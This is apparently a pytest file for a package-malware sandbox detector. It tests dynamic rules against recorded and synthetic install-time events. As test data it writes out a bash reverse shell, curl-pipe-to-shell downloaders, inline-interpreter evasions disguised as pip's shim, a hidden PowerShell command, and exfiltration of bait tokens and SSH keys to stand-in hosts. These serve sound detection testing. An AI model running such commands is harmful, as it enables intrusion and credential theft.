"""Dynamic rules over recorded sandbox reports (tests/fixtures/verdict, recorded with
`pkgtrace analyze … --local` from the TEST FIXTURE packages in tests/fixtures/packages and from a
real benign release), and over recorded sections with one event added or changed per rule."""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path

import pytest

from pkgtrace.verdict import judge, load_rules

FIXTURES = Path(__file__).parent.parent / "fixtures" / "verdict"


def recorded(name: str) -> dict:
    doc = json.loads((FIXTURES / name).read_text())
    return {"dynamic": doc["dynamic"], "report": doc["report"]}


BENIGN = "dynamic-pypi-requests-benign.json"

SEEN_IN_RECORDINGS = {"DYN-BAIT-READ", "DYN-BAIT-SENT", "DYN-ENV-IN-PAYLOAD", "DYN-PERSISTENCE-WRITE",
                      "DYN-SHELL-PIPE-DOWNLOAD", "DYN-DOWNLOADER", "DYN-DNS-NONREGISTRY",
                      "DYN-CONNECT-NONREGISTRY", "DYN-HTTP-REQUEST", "DYN-COMBO-DNS-AND-HTTP"}


@pytest.mark.parametrize("name", ["dynamic-pypi-behaviour.json", "dynamic-npm-behaviour.json"])
def test_recorded_fixture_malware_is_malicious_with_evidence(name):
    v = judge(recorded(name), suppressions=[])
    assert v["label"] == "malicious" and v["score"] >= 90
    assert SEEN_IN_RECORDINGS <= set(v["rules_fired"])
    by_rule = {f["rule"]: f for f in v["findings"]}
    assert by_rule["DYN-BAIT-READ"]["evidence"]["path"] == "/root/.ssh/id_rsa"
    assert by_rule["DYN-BAIT-READ"]["phase"] in ("install", "import", "execute")
    sent = by_rule["DYN-BAIT-SENT"]
    assert sent["evidence"]["via"] == "http" and sent["evidence"]["excerpt"]   # the payload excerpt
    assert "evil.example" in by_rule["DYN-DNS-NONREGISTRY"]["message"]
    assert by_rule["DYN-CONNECT-NONREGISTRY"]["evidence"]["sni"] == "c2.example"
    assert by_rule["DYN-PERSISTENCE-WRITE"]["attack"].startswith("T1546")


def test_recorded_benign_release_is_benign():
    v = judge(recorded(BENIGN), suppressions=[])
    assert v["label"] == "benign", v["findings"]
    assert not [f for f in v["findings"] if f["source"] == "dynamic"]


def test_ossf_document_alone_is_enough_for_behaviour_rules():
    docs = recorded("dynamic-pypi-behaviour.json")
    v = judge({"dynamic": docs["dynamic"]}, suppressions=[])
    assert {"DYN-BAIT-READ", "DYN-PERSISTENCE-WRITE", "DYN-DOWNLOADER"} <= set(v["rules_fired"])


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def _cmd(*argv):
    return {"pid": 77, "argv": list(argv), "env": [], "exe": argv[0], "time": "00:00:00"}


def _pip_shim() -> list[str]:
    """pip's setup.py caller as a real sdist build ran it (recorded)."""
    for p in recorded("dynamic-pypi-behaviour.json")["report"]["dynamic"]["phases"].values():
        for c in p["commands"]:
            if "<pip-setuptools-caller>" in " ".join(c["argv"]):
                return c["argv"]
    raise AssertionError("the recording has no pip shim")


PIP_SHIM = _pip_shim()

# rule: (phase, list name, event that must fire it, look-alike event that must not)
EVENTS = {
    "DYN-RAW-TCP": ("install", "network",
                    {"kind": "tcp", "dst": "203.0.113.9", "port": 4444, "first_bytes_b64": _b64("hello")},
                    {"kind": "tcp", "dst": "10.77.0.1", "port": 53, "first_bytes_b64": _b64("q")}),
    "DYN-NETWORK-EXECUTE": ("execute", "network",
                            {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "api.example",
                             "http": {"method": "GET", "target": "/v1", "host": "api.example", "headers": []}},
                            {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"},
                             "allowed": True}),
    "DYN-NPMRC-READ-BY-PACKAGE": ("import", "files",
                                  {"path": "/root/.npmrc", "read": True, "write": False, "delete": False},
                                  {"path": "/root/.config/pip/pip.conf", "read": True, "write": False,
                                   "delete": False}),
    "DYN-ENV-IN-REQUEST-LINE": ("install", "network",
                                {"kind": "tcp", "dst": "198.18.0.9", "port": 80, "http": {
                                    "method": "GET", "target": "/c?hostname=box&user=root", "host": "x.example",
                                    "headers": []}},
                                {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "tls": {"sni": "pypi.org"},
                                 "allowed": True}),
    "DYN-INLINE-INTERPRETER": ("install", "commands", _cmd("python3", "-c", "import os; os.system('id')"),
                               _cmd(*PIP_SHIM)),
    "DYN-REVERSE-SHELL": ("install", "commands", _cmd("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                          _cmd("bash", "-c", "echo building")),
    "DYN-OTHER-PACKAGE-WRITE": ("install", "files",
                                {"path": "/usr/lib/python3/dist-packages/six.py", "read": False, "write": True,
                                 "delete": False},
                                {"path": "/opt/pkgtrace/venv/lib/python3.11/site-packages/pkg/__init__.py",
                                 "read": False, "write": True, "delete": False}),
    "DYN-DROP-EXECUTABLE": ("install", "file_events",
                            {"op": "chmod", "path": "/tmp/.cache-x/miner", "mode": "0o755", "executable": True},
                            # the install target of today's layout: the package user's venv
                            {"op": "chmod", "path": "/home/alex/.venv/bin/pkg-cli", "mode": "0o755",
                             "executable": True}),
    "DYN-LEFT-RUNNING": ("import", "left_running", {"pid": 40, "ppid": 1, "name": "miner"}, None),
    "DYN-TRACE-TAMPER": ("install", "tamper",
                         {"pid": 9, "syscall": "openat", "why": "process name spells a syscall"}, None),
    # A failed exec of a Windows tool is intent; a failed exec of a compiler is not.
    "DYN-EXEC-ATTEMPT": ("install", "failed",
                         {"pid": 9, "syscall": "execve", "errno": 2, "error": "no such file or directory",
                          "exe": "/usr/bin/powershell",
                          "argv": ["powershell", "-WindowStyle", "Hidden", "-EncodedCommand", "SQBFAFgA"]},
                         {"pid": 9, "syscall": "execve", "errno": 2, "error": "no such file or directory",
                          "exe": "/usr/local/bin/cc", "argv": ["cc", "--version"]}),
    "DYN-SYSTEM-TAMPER-REFUSED": ("install", "failed",
                                  {"pid": 9, "syscall": "openat", "errno": 13, "error": "permission denied",
                                   "args": ["AT_FDCWD /tmp", "0x7f /usr/lib/python3/dist-packages/zz.pth",
                                            "O_WRONLY|O_CLOEXEC|O_CREAT|O_TRUNC", "0o666"]},
                                  {"pid": 9, "syscall": "openat", "errno": 13, "error": "permission denied",
                                   "args": ["AT_FDCWD /tmp", "0x7f /usr/lib/python3/dist-packages/zz.pth",
                                            "O_RDONLY|O_CLOEXEC", "0o0"]}),
    "DYN-KILL-INIT": ("install", "commands", _cmd("/bin/kill", "-9", "1"), _cmd("kill", "-9", "1234")),
}


def test_failed_exec_of_a_program_found_later_on_path_is_not_an_attempt():
    # execvp tries each PATH folder: /usr/local/bin/sh fails, then /usr/bin/sh runs
    docs = _with({"pid": 9, "syscall": "execve", "errno": 2, "error": "no such file or directory",
                  "exe": "/usr/local/bin/sh", "argv": ["sh", "-c", "true"]}, "install", "failed")
    docs["report"]["dynamic"]["phases"]["install"].setdefault("commands", []).append(_cmd("sh", "-c", "true"))
    v = judge(docs, suppressions=[])
    assert "DYN-EXEC-ATTEMPT" not in v["rules_fired"], v["findings"]


def test_forged_lines_in_the_trace_stats_are_tampering():
    docs = _with(None, "install", "files")
    docs["report"]["dynamic"]["trace_stats"]["forged"] = 3
    v = judge(docs, suppressions=[])
    assert "DYN-TRACE-TAMPER" in v["rules_fired"] and v["label"] != "benign"
def _registry(method, target, decision, reason, headers=(), **proxy):  # netsim: an intercepted request
    return {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "hostname": "registry.npmjs.org",
            "tls": {"sni": "registry.npmjs.org", "intercepted": True}, "allowed": decision == "forwarded",
            "http": {"method": method, "target": target, "host": "registry.npmjs.org",
                     "headers": [["Host", "registry.npmjs.org"], *headers]},
            "proxy": {"decision": decision, "reason": reason, **proxy}}


_AUTH = (["Authorization", "Bearer npm_x"],)
EVENTS |= {
    "DYN-REGISTRY-WRITE": ("install", "network",
                           _registry("PUT", "/worm", "refused", "PUT is not a read", _AUTH, write=True),
                           _registry("GET", "/is-number", "forwarded", "GET of a package-manager path")),
    "DYN-REGISTRY-TOKEN-USE": ("install", "network",
                               _registry("GET", "/-/whoami", "refused", "not a path", _AUTH),
                               # npm's own authenticated read: the proxy strips the token
                               _registry("GET", "/is-number", "forwarded", "GET of a package-manager path", _AUTH)),
    "DYN-REGISTRY-PATH-REFUSED": ("install", "network",
                                  _registry("GET", "/-/v1/search?text=x", "refused", "not a path npm reads"),
                                  _registry("POST", "/-/npm/v1/security/advisories/bulk", "refused",
                                            "package manager housekeeping, not forwarded", housekeeping=True)),
    "DYN-TLS-REFUSED-INTERCEPTION": ("install", "network",
                                     {"kind": "tcp", "dst": "198.18.0.4", "port": 443, "tls": {
                                         "sni": "pinned.example", "intercepted": False,
                                         "refused": "the client refused the certificate (TLSV1_ALERT_UNKNOWN_CA)"}},
                                     {"kind": "tcp", "dst": "198.18.0.1", "port": 443, "allowed": True,
                                      "tls": {"sni": "pypi.org", "intercepted": True}, "proxy": {"decision": "forwarded"}}),
    "DYN-DNS-OVER-TCP": ("install", "dns",
                         {"kind": "dns", "hostname": "x.exfil.example", "qtype": "TXT", "transport": "tcp",
                          "dst": "9.9.9.9"},
                         {"kind": "dns", "hostname": "pypi.org", "qtype": "A", "transport": "udp", "dst": "10.77.0.1"}),
    # What a written file held at its phase's end (dynamic/written.py): an ELF left in /tmp, and
    # the same header in a compiler's object file under pip's build folder.
    "DYN-WRITE-BINARY": ("install", "written_files",
                         {"path": "/tmp/.cache-x/kworker", "state": "present", "type": "file", "size": 1600,
                          "head_kind": "elf", "sha256": "ab" * 32, "traced": True},
                         {"path": "/tmp/pip-build-env-x1/overlay/_speedups.o", "state": "present",
                          "type": "file", "size": 1600, "head_kind": "elf", "traced": True}),
    "DYN-WRITE-PERSISTENT-SCRIPT": ("install", "written_files",
                                    {"path": "/home/alex/.config/autostart/update.sh", "state": "present",
                                     "type": "file", "size": 40, "head_kind": "script",
                                     "head_text": "#!/bin/sh\ncurl -s http://x.example | sh\n"},
                                    # a script the package wrote and deleted again: nothing is left to run
                                    {"path": "/home/alex/.config/autostart/update.sh", "state": "absent",
                                     "traced": True}),
    "DYN-UDP-SEND": ("install", "network",
                     {"kind": "udp", "dst": "203.0.113.9", "port": 9999, "first_bytes_b64": _b64("k=v")}, None),
}


def test_every_dynamic_rule_is_tested():
    from .test_dynamic_context import CONTEXT_EVENTS  # the context rules' own table
    dynamic = {r.id for r in load_rules() if r.family == "dynamic"}
    assert dynamic - SEEN_IN_RECORDINGS - set(EVENTS) - set(CONTEXT_EVENTS) - PHASE_LIMIT_RULES == set()


PHASE_LIMIT_RULES = {"DYN-TRACE-FLOOD", "DYN-TRACE-FLOOD-EXECUTE"}  # fired by how a phase ended, tested below


def test_a_flood_that_hit_the_trace_limit_is_not_benign_and_other_limits_are_not_a_flood():
    docs = _with(None, "install", "files")
    docs["report"]["dynamic"]["phases"]["install"].update(limit="trace", trace_bytes=70 << 20)
    v = judge(docs, suppressions=[])
    assert "DYN-TRACE-FLOOD" in v["rules_fired"] and v["label"] != "benign", v["findings"]
    docs["report"]["dynamic"]["phases"]["install"].update(limit="time", trace_bytes=1 << 20)
    assert "DYN-TRACE-FLOOD" not in judge(docs, suppressions=[])["rules_fired"]


def test_a_flood_while_pkgtrace_called_the_exports_is_weaker_evidence():
    # ray.init() from the execute phase starts a cluster: 256 MiB of trace, nothing planted
    docs = _with(None, "execute", "files")
    docs["report"]["dynamic"]["phases"]["execute"].update(limit="trace", trace_budget="phase", trace_bytes=256 << 20)
    v = judge(docs, suppressions=[])
    assert "DYN-TRACE-FLOOD-EXECUTE" in v["rules_fired"] and "DYN-TRACE-FLOOD" not in v["rules_fired"]
    assert v["label"] == "benign", v["findings"]
    # the same flood at import, where nothing but the package's own code runs: a flood
    docs["report"]["dynamic"]["phases"]["import"].update(limit="trace", trace_budget="phase", trace_bytes=256 << 20)
    v = judge(docs, suppressions=[])
    assert "DYN-TRACE-FLOOD" in v["rules_fired"] and v["label"] != "benign", v["findings"]


def test_a_phase_whose_lists_the_report_folded_is_a_flood():
    docs = _with(None, "install", "files")
    docs["report"]["dynamic"]["phases"]["install"]["folded"] = {
        "connections": {"count": 28000, "kept_for_bait": 0, "destinations": 28000, "ports": []}}
    v = judge(docs, suppressions=[])
    assert "DYN-TRACE-FLOOD" in v["rules_fired"] and v["label"] != "benign", v["findings"]
    f = next(f for f in v["findings"] if f["rule"] == "DYN-TRACE-FLOOD")
    assert "28000 connections" in f["message"]
    docs["report"]["dynamic"]["phases"]["install"]["folded"] = {}
    assert "DYN-TRACE-FLOOD" not in judge(docs, suppressions=[])["rules_fired"]


def _with(event: dict | None, phase: str, key: str) -> dict:
    docs = recorded(BENIGN)
    del docs["dynamic"]  # the report section is the richer source
    phases = docs["report"]["dynamic"]["phases"]
    phases.setdefault(phase, copy.deepcopy(phases["import"]) | {"files": [], "commands": [], "network": [],
                                                                 "dns": [], "file_events": [],
                                                                 "left_running": []})
    if event is not None:
        phases[phase].setdefault(key, []).append(event)
    return docs


@pytest.mark.parametrize("rule", sorted(EVENTS))
def test_dynamic_rule_fires_on_event_and_not_on_lookalike(rule):
    phase, key, bad, good = EVENTS[rule]
    v = judge(_with(bad, phase, key), suppressions=[])
    assert rule in v["rules_fired"], v["findings"]
    f = next(f for f in v["findings"] if f["rule"] == rule)
    assert f["source"] == "dynamic" and f["phase"] == phase and f["evidence"]
    v = judge(_with(good, phase, key), suppressions=[])
    assert rule not in v["rules_fired"], v["findings"]


def _bait(docs: dict) -> str:
    return next(v["value"] for v in docs["report"]["dynamic"]["bait"]["values"] if v["what"] == "github_token")


def _encodings(secret: str):
    """The bait as a thief re-encodes it: base64 after 0, 1 or 2 other bytes (any alignment), hex."""
    for k, lead in enumerate(("", "u=", "us=")):
        yield f"base64 after {k} bytes", base64.b64encode(f"{lead}{secret}".encode()).decode()
    yield "hex", f"{secret.encode().hex()}"
    yield "HEX", f"{secret.encode().hex().upper()}"


@pytest.mark.parametrize("via", ["http", "send"])
def test_bait_sent_in_any_encoding_on_any_transport_is_theft(via):
    docs = _with(None, "install", "files")
    secret = _bait(docs)
    for how, blob in _encodings(secret):
        event = ({"kind": "tcp", "dst": "198.18.0.9", "port": 80, "http": {
                     "method": "POST", "target": "/c", "host": "collect.example", "headers": [],
                     "body_b64": _b64(f"d={blob}")}} if via == "http"
                 else {"pid": 7, "address": "203.0.113.9", "port": 4444, "data_text": f"x{blob}"})
        v = judge(_with(event, "install", "network" if via == "http" else "sends"), suppressions=[])
        assert "DYN-BAIT-SENT" in v["rules_fired"], (how, v["findings"])
    # the look-alike: the same encodings of a value that is not bait, and a cut-off bait
    for how, blob in [*_encodings("ghp_not-the-planted-token-0000"), ("cut", secret[:7])]:
        event = {"pid": 7, "address": "203.0.113.9", "port": 4444, "data_text": blob}
        assert "DYN-BAIT-SENT" not in judge(_with(event, "install", "sends"), suppressions=[])["rules_fired"], how


def _inline_evasions():
    """Lines that borrow an exempt idiom's words and run code of their own."""
    interp, flag, code, *args = PIP_SHIM
    yield "pip's marker in other code", [interp, "-c", "# This is <pip-setuptools-caller>\nimport os; os.system('id')"]
    yield "code after pip's shim", [interp, "-c", code + "\n__import__('os').system('id')", *args]
    yield "a second path slot", [interp, "-c", code.replace("',), ", "', __import__('os').system('id')), "), *args]
    yield "the driver's words on line 1, code on line 2", [
        "python3", "-c", "import setuptools\n__import__('os').system('curl http://203.0.113.9/x | sh')"]
    yield "sysconfig on line 1, exec on line 2", ["python3", "-c", "import sysconfig\nexec(open('/tmp/x').read())"]


@pytest.mark.parametrize("how,argv", list(_inline_evasions()), ids=[h for h, _ in _inline_evasions()])
def test_inline_code_dressed_as_the_package_managers_own_is_inline_code(how, argv):
    v = judge(_with(_cmd(*argv), "install", "commands"), suppressions=[])
    assert "DYN-INLINE-INTERPRETER" in v["rules_fired"], how


def test_a_read_of_another_ecosystems_registry_is_not_a_refused_path():
    # npm run by a PyPI package's execute (jupyterlab's builder) reads the npm registry, which a
    # PyPI run does not pass through: refused, and said so, but no path a package manager never uses
    other = _registry("GET", "/playwright", "refused", "a package manager's read of another ecosystem's "
                      "registry (registry.npmjs.org), not passed through")
    assert "DYN-REGISTRY-PATH-REFUSED" not in judge(_with(other, "execute", "network"), suppressions=[])["rules_fired"]
    probe = _registry("GET", "/-/whoami", "refused", "registry.npmjs.org is not a registry host of this run")
    assert "DYN-REGISTRY-PATH-REFUSED" in judge(_with(probe, "execute", "network"), suppressions=[])["rules_fired"]
